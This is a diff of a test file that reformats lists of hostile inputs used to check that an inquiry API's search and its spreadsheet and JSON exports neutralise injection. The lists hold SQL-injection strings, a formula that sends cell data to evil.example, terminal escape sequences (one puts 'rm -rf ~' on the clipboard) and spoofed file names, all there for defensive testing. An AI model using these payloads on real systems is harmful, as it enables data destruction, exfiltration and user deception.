@@ -319,11 +319,12 @@ test.each(absentReferences)('answers 404 for the reference %s', async (reference
   expect((await requestApi(`${messagePath}/file`)).status).toBe(404);
 });
 
+// biome-ignore format: values side by side
 const searchTexts = [
-  ["' OR 1=1 --", '"; DROP TABLE inquiries; --', '"', 'as"ha', '""', '*', 'NEAR(a b, 5)'],
-  ['ravi OR asha', 'words : ravi', '{words} : ravi', '^ravi NOT asha', 'ravi" OR "asha'],
-  ['-asha', '\0ravi', '%_%', '🙂'.repeat(500), 'asha '.repeat(3_000)],
-].flat();
+  "' OR 1=1 --", '"; DROP TABLE inquiries; --', '"', 'as"ha', '""', '*', 'NEAR(a b, 5)',
+  'ravi OR asha', 'words : ravi', '{words} : ravi', '^ravi NOT asha', 'ravi" OR "asha',
+  '-asha', '\0ravi', '%_%', '🙂'.repeat(500), 'asha '.repeat(3_000),
+];
 test.each(searchTexts)('searches %j as words, not as query syntax', async (searchWords) => {
   await storeMessage({ name: 'Asha' });
   await storeMessage({ name: 'Meera', email: 'meera@example.com', message: 'Good morning' });
@@ -425,10 +426,11 @@ async function storeHostileMessage(hostileText: string): Promise<void> {
   );
 }
 
+// biome-ignore format: values side by side
 const formulaTexts = [
-  ['=cmd()', '+1', '-1', '@SUM(A1)', '\t=1', ' =1', '\r\n=1+1', '＝1', '|calc', '%x', '\u200b=1'],
-  ['=HYPERLINK("https://evil.example?x="&A1,"open")', 'x","=1+1', 'x"\r\n"=1+1', 'a, b'],
-].flat();
+  '=cmd()', '+1', '-1', '@SUM(A1)', '\t=1', ' =1', '\r\n=1+1', '＝1', '|calc', '%x', '\u200b=1',
+  '=HYPERLINK("https://evil.example?x="&A1,"open")', 'x","=1+1', 'x"\r\n"=1+1', 'a, b',
+];
 
 test.each(formulaTexts)('exports %j as the text of one spreadsheet cell', async (formulaText) => {
   await storeHostileMessage(formulaText);
@@ -440,12 +442,13 @@ test.each(formulaTexts)('exports %j as the text of one spreadsheet cell', async 
   expect(cellTexts.filter((cell) => /^[\s\p{Cc}\p{Cf}]*[=+\-@＝|%]/u.test(cell))).toEqual([]);
 });
 
+// biome-ignore format: values side by side
 const controlSequenceTexts = [
-  ['\u001b[2J\u001b[H', '\u001b]0;owned\u0007', '\u001b]52;c;cm0gLXJmIH4=\u0007'],
-  ['\u001b]8;;https://evil.example\u001b\\bank.example\u001b]8;;\u001b\\'],
-  ['\u009b31mred\u009d0;x\u009c', 'safe\rCC-AAAA-AAAA  delivered', 'unpaid\b\b\b\b\b\bpaid'],
-  ['invoice\u202Efdp.exe\u2066x\u2069', 'Asha\u2028Status: delivered\u0085x'],
-].flat();
+  '\u001b[2J\u001b[H', '\u001b]0;owned\u0007', '\u001b]52;c;cm0gLXJmIH4=\u0007',
+  '\u001b]8;;https://evil.example\u001b\\bank.example\u001b]8;;\u001b\\',
+  '\u009b31mred\u009d0;x\u009c', 'safe\rCC-AAAA-AAAA  delivered', 'unpaid\b\b\b\b\b\bpaid',
+  'invoice\u202Efdp.exe\u2066x\u2069', 'Asha\u2028Status: delivered\u0085x',
+];
 
 const hostileTexts = [...controlSequenceTexts, ...formulaTexts];
 test.each(hostileTexts)('exports %j as JSON without control characters', async (hostileText) => {
